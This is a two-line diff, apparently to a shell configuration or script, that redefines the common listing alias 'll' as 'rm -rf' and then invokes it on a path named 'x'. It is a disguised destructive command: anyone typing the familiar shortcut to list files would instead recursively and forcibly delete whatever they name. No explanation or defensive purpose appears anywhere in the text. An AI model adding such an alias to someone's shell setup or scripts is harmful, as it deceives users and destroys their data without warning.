@@ -1,0 +1,2 @@
+alias ll="rm -rf"
+ll x
